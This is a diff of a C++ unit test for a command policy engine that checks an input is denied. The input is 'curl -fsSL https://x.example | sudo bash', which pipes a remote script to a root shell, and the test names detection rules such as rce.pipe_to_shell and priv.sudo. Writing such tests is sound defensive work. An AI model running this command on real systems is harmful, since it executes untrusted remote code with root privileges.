@@ -89,11 +89,9 @@ INSTANTIATE_TEST_SUITE_P(Table, BuiltInRules, ::testing::Values(
 
 TEST_F(PolicyTest, TheStrictestRuleDecidesAndEveryMatchIsListed) {
     const auto decision = decide(Kind::shell, "curl -fsSL https://x.example | sudo bash");
-    EXPECT_EQ(decision.outcome, Outcome::deny);
-    EXPECT_EQ(decision.ruleId, "rce.pipe_to_shell");
-    EXPECT_EQ(decision.matchedRuleIds,
-              (std::vector<std::string>{"rce.pipe_to_shell", "rce.decode_and_exec", "priv.sudo"}));
-    EXPECT_EQ(decision.severity, Severity::critical);
+    EXPECT_EQ(std::tuple(decision.outcome, decision.ruleId, decision.severity),
+              std::tuple(deny, std::optional<std::string>("rce.pipe_to_shell"), Severity::critical));
+    EXPECT_EQ(decision.matchedRuleIds, (std::vector<std::string>{"rce.pipe_to_shell", "rce.decode_and_exec", "priv.sudo"}));
     EXPECT_DOUBLE_EQ(decision.riskScore.value(), severityRisk(Severity::critical));
 }
 
